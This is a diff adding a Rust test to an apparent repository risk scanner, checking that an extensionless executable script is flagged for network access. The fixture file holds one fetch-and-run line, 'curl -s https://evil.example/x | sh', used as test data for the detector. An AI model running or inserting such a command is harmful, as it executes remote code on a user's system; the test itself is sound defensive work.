@@ -3,6 +3,7 @@
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
 use std::io::{Read, Write};
+use std::os::unix::fs::PermissionsExt as _;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
@@ -582,5 +583,36 @@ fn risk_with_artifact_adds_the_artifact_flags() {
         stderr(&out).contains("next: check that both revisions exist"),
         "{}",
         stderr(&out)
+    );
+}
+
+/// An executable file is a script to the system, extension or `#!` line or not.
+#[test]
+fn risk_scans_an_executable_file_without_an_extension() {
+    let repo = risky_range();
+    repo.write("tools/update", "curl -s https://evil.example/x | sh\n");
+    let script = repo.path().join("tools/update");
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    repo.commit("v1.2.0");
+    let args = |head| {
+        [
+            "diff",
+            "risk",
+            "--repo",
+            repo.p(),
+            "--base",
+            "v1.1.0",
+            "--head",
+            head,
+            "--json",
+        ]
+    };
+    let v = json(&run(&args("v1.2.0")));
+    let flags = v["flags"].as_array().expect("flags");
+    assert!(
+        flags
+            .iter()
+            .any(|f| f["rule"] == "network-access" && f["file"] == "tools/update"),
+        "{flags:?}"
     );
 }
